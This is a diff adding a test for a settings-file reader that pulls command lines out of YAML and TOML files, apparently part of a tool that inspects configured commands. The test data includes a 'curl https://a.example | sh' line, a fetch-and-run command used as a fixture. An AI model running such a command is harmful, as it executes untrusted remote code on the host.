@@ -41,3 +41,11 @@ def test_settings_that_are_too_long_for_the_parser_are_read_line_by_line() -> No
     text = "run: curl https://a.acme.dev\n" + "#" * settings_files._MAX_YAML
 
     assert read_settings(text, "yaml").commands == [(1, "curl https://a.acme.dev")]
+
+
+def test_a_key_of_very_many_parts_is_not_given_to_the_parser() -> None:
+    text = "a" + ".a" * 200_000 + " = 1\ncommand = curl https://a.example | sh\n"
+
+    found = read_settings(text, "toml")
+
+    assert [command for _, command in found.commands] == ["curl https://a.example | sh"]
